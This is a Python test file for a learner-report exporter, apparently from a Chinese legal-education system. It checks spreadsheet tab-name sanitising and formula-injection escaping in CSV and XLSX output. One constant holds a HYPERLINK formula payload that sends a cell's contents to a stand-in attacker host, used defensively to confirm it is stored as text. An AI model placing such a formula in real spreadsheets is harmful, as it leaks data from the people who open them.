"""The report files as a spreadsheet opens them: any unit or learner name renders (the
tab holds what a tab can), and no cell of ours is a formula."""

from __future__ import annotations

import csv
import io
import tempfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from xuefa.reports.rows import LEARNER_COLUMNS, csv_cell, sheet_name, write_csv, write_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
EXCEL_FORBIDDEN = "/\\?*:[]"

# Printable Unicode (letters, marks, numbers, punctuation, symbols, spaces), with CJK and
# every character a tab cannot hold weighted in, as a unit admin may type them.
names = st.text(
    st.one_of(
        st.characters(categories=["L", "M", "N", "P", "S", "Zs"]),
        st.sampled_from(list(EXCEL_FORBIDDEN + "'法宣科综合组 ")),
        st.characters(min_codepoint=0x4E00, max_codepoint=0x9FFF),
    ),
    min_size=1,
    max_size=60,
).filter(lambda n: n.strip())


def row(name: str, unit: str, credits: int = 50) -> dict[str, Any]:
    return {
        "student_no": "530402000001",
        "name": name,
        "unit": unit,
        "credits": credits,
        "hours": 1.5,
        "credit_score": -0.5,
        "exam_best": None,
        "attempts": 0,
        "exam_score": 0.0,
        "total": 0.83,
        "passed": False,
    }


def valid_tab(title: str) -> bool:
    return (
        0 < len(title.encode("utf-16-le")) <= 62
        and not set(title) & set(EXCEL_FORBIDDEN)
        and not title.startswith("'")
        and not title.endswith("'")
        and title.lower() != "history"
    )


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(unit=names)
def test_any_unit_name_renders_and_reads_back(unit: str) -> None:
    with tempfile.TemporaryDirectory() as work:
        path = Path(work) / "u.xlsx"
        written = write_xlsx(path, LEARNER_COLUMNS, [row("张三", unit)], unit)
        book = load_workbook(path, read_only=True)
        (sheet,) = book.worksheets
        assert sheet.title == sheet_name(unit) and valid_tab(sheet.title)
        table = list(sheet.iter_rows(values_only=True))
        assert table[1][2] == unit and written.rows == 1  # the cell keeps the name whole
        csv_path = Path(work) / "u.csv"
        write_csv(csv_path, LEARNER_COLUMNS, [row("张三", unit)])
        (back,) = csv.DictReader(io.StringIO(csv_path.read_text("utf-8-sig")))
        assert back["单位"] in (unit, f"'{unit}")


@pytest.mark.parametrize(
    ("name", "tab"),
    [
        ("法宣科/综合组", "法宣科／综合组"),
        ("[综合]*?:\\", "［综合］＊？：＼"),
        ("'引号'", "引号"),
        ("History", "History表"),
        ("''", "报表"),
        ("\x00\x1f\u2028", "报表"),  # a name stored before names refused them
        ("一" * 40, "一" * 31),
        ("😀" * 20, "😀" * 15),  # 31 UTF-16 units hold 15 of these
    ],
)
def test_a_tab_shows_the_name_as_far_as_a_tab_can(name: str, tab: str) -> None:
    assert sheet_name(name) == tab


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_like_a_formula_is_text(start: str) -> None:
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


def test_numbers_stay_numbers_and_other_text_is_kept() -> None:
    assert csv_cell(-5) == -5 and csv_cell(-0.5) == -0.5 and csv_cell(None) is None
    assert csv_cell("张三") == "张三" and csv_cell("a=b") == "a=b"


def test_a_formula_for_a_name_is_text_in_both_files(tmp_path: Path) -> None:
    rows = [row(HYPERLINK, "-单位", credits=-5)]
    write_csv(tmp_path / "u.csv", LEARNER_COLUMNS, rows)
    (back,) = csv.DictReader(io.StringIO((tmp_path / "u.csv").read_text("utf-8-sig")))
    assert back["姓名"] == "'" + HYPERLINK and back["单位"] == "'-单位"
    assert back["积分"] == "-5" and back["日常学法成绩"] == "-0.5"  # numbers, not text
    write_xlsx(tmp_path / "u.xlsx", LEARNER_COLUMNS, rows, "单位")
    sheet = load_workbook(tmp_path / "u.xlsx").active
    assert sheet is not None
    name, unit, credits = sheet["B2"], sheet["C2"], sheet["D2"]
    assert (name.data_type, name.value) == ("s", HYPERLINK)  # a string, not a formula
    assert unit.value == "-单位" and (credits.data_type, credits.value) == ("n", -5)
